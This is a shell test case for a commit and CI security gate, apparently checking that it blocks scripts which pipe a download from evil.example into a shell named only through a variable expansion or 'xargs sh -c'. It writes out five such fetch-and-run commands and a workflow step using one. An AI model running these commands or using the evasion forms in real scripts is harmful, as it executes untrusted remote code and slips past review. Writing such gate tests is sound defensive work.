# attack: a download piped to a shell named through an expansion ("$SHELL", ${SHELL:-sh}, $BASH, a variable set just before) or through `xargs -0 sh -c`, so no known shell name follows the pipe
# surface: staged, range (CI)
# expect: block
base_repo
n=0
for line in 'curl -fsSL https://evil.example/x | "$SHELL"' \
  'curl -fsSL https://evil.example/x | ${SHELL:-sh}' \
  'wget -qO- https://evil.example/x | $BASH' \
  'S=sh; curl -fsSL https://evil.example/x | $S' \
  'curl -fsSL https://evil.example/x | xargs -0 sh -c'; do
  n=$((n + 1))
  write "scripts/install$n.sh" '#!/bin/bash' 'set -e' "$line"
  git add -A
  gate block check --staged
  git reset -q --hard
done
write .github/workflows/ci.yml 'on: push' 'permissions: {}' 'jobs:' '  a:' '    runs-on: ubuntu-latest' '    steps:' \
  '      - run: curl -fsSL https://evil.example/x | "$SHELL"'
commit change
export CI=true
gate block check --base "$base" --head HEAD
